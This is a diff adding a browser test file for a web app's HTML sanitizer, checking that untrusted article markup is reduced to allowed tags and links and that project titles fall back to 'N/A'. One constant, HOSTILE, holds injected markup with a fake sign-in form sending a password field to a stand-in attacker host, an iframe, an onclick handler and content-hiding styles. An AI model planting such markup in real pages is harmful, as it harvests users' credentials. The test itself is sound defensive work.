@@ -1,0 +1,105 @@
+import { expect, test } from "vitest";
+import { page } from "vitest/browser";
+import { ATTACKS, RUNNERS } from "../../../tests/support/attacks.ts";
+import { expectNone } from "../../../tests/support/components/actions.ts";
+import { openPage } from "../../../tests/support/components/application.tsx";
+import {
+	keepForeignSession,
+	settled,
+	stubForeignServer,
+} from "../../../tests/support/components/foreign.ts";
+import { cleanArticle } from "./clean-article.ts";
+
+/** Expects that nothing is left that runs, loads or leaves the page otherwise than an article's links and pictures do. */
+function expectHarmless(html: string): void {
+	const read = new DOMParser().parseFromString(html, "text/html");
+	for (const element of read.querySelectorAll("head *, body *")) {
+		expect(element.localName).toMatch(
+			/^(h[1-6]|p|blockquote|ol|ul|li|strong|b|em|i|u|s|strike|del|a|img|br)$/,
+		);
+		for (const { name, value } of element.attributes) {
+			expect(name).toMatch(/^(href|rel|target|class|src|alt|role|width|height)$/);
+			if (name === "class") expect(value).toMatch(/^ql-/);
+			const address = value.replace(/[\0-\x20]/g, "");
+			if (name === "href") expect(address).toMatch(/^(https?:|mailto:|tel:|[^:]*$|[/#?])/i);
+			if (name === "src") expect(address).toMatch(/^(https?:|data:image\/|\/(?!\/)|$)/i);
+		}
+	}
+}
+
+test.each([...ATTACKS.map(([attack]) => attack), ...RUNNERS])("%s is harmless", (attack) => {
+	const clean = cleanArticle(attack);
+	expectHarmless(clean);
+	// A browser reads it as it was written.
+	expect(cleanArticle(clean)).toBe(clean);
+});
+
+test.each([
+	"<h1>One</h1><h6>Six</h6><blockquote>Why?</blockquote>",
+	"<p><strong>a</strong><b>b</b><em>c</em><i>d</i><u>e</u><s>f</s><strike>g</strike><del>h</del></p>",
+	"<ol><li>one</li><li>two<ul><li>inner</li></ul></li></ol>",
+	'<p class="ql-align-center ql-indent-3">both</p>',
+	'<p><a href="https://example.org/a?b=1&amp;c=2">web</a> <a href="mailto:a@b.example">m</a></p>',
+	'<p><a href="http://example.org" rel="noopener noreferrer" target="_blank">new</a></p>',
+	'<p><a href="/projects/water-pump">here</a> <a href="#method">below</a></p>',
+	'<p><img src="https://example.org/a.png" alt="A pump" width="16" height="9"></p>',
+	'<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="" role="presentation"><br></p>',
+	"<p>2 &lt; 3 &amp; 5 &gt; 4, Gĩkũyũ 🌞</p>",
+])("%s stays", (html) => expect(cleanArticle(html)).toBe(html));
+
+const HOSTILE =
+	"<h2 style='position:fixed' onclick='x()'>All about it</h2><form action='//evil.example'>" +
+	"<input name='password'><button>Sign in</button></form><iframe src='https://evil.example'></iframe>" +
+	"<style>main{display:none}</style><p class='btn ql-align-center' id='main'>A line</p>";
+
+test.each([
+	["a project's page", "/projects/foreign-windmill"],
+	["a project that staff read", "/dashboard/projects/11"],
+	["the form of a project", "/dashboard/projects/11/edit"],
+])("the text of another server is cleaned before it is shown: %s", async (_, address) => {
+	const foreign = stubForeignServer((body) =>
+		body.replaceAll("<p>All about the Foreign Windmill.</p>", HOSTILE),
+	);
+	if (address.startsWith("/dashboard")) keepForeignSession();
+	await openPage(address);
+	await settled(foreign.calls);
+	const article = page.getByRole("main").getByText("A line");
+	await expect.element(article).toBeVisible();
+	await expectNone(page.getByRole("button", { name: "Sign in", exact: true }));
+	expect(article.element().matches("#main, .btn")).toBe(false);
+	expect(
+		document.querySelector("main :is(iframe, [style*=fixed], input[name=password])"),
+	).toBeNull();
+});
+
+const UNTITLED = [undefined, null, "", "  "];
+
+test.each(
+	UNTITLED.flatMap((title) =>
+		["/", "/projects", "/projects/foreign-windmill", "/order/foreign-windmill"].map(
+			(address) => [title, address] as const,
+		),
+	),
+)("a project with the title %j is N/A on %s", async (title, address) => {
+	const foreign = stubForeignServer((body) =>
+		JSON.stringify(JSON.parse(body), (name, value) => (name === "title" ? title : value)),
+	);
+	await openPage(address);
+	await settled(foreign.calls);
+	await expect
+		.element(page.getByRole("main").getByRole("heading", { name: "N/A", exact: true }).first())
+		.toBeVisible();
+});
+
+test("a project without a title gets none by being edited", async () => {
+	const foreign = stubForeignServer((body) =>
+		JSON.stringify(JSON.parse(body), (name, value) => (name === "title" ? null : value)),
+	);
+	keepForeignSession();
+	await openPage("/dashboard/projects/11");
+	await settled(foreign.calls);
+	await expect.element(page.getByRole("heading", { name: "N/A" })).toBeVisible();
+	await openPage("/dashboard/projects/11/edit");
+	await settled(foreign.calls);
+	await expect.element(page.getByLabelText("Title", { exact: true })).toHaveValue("");
+});
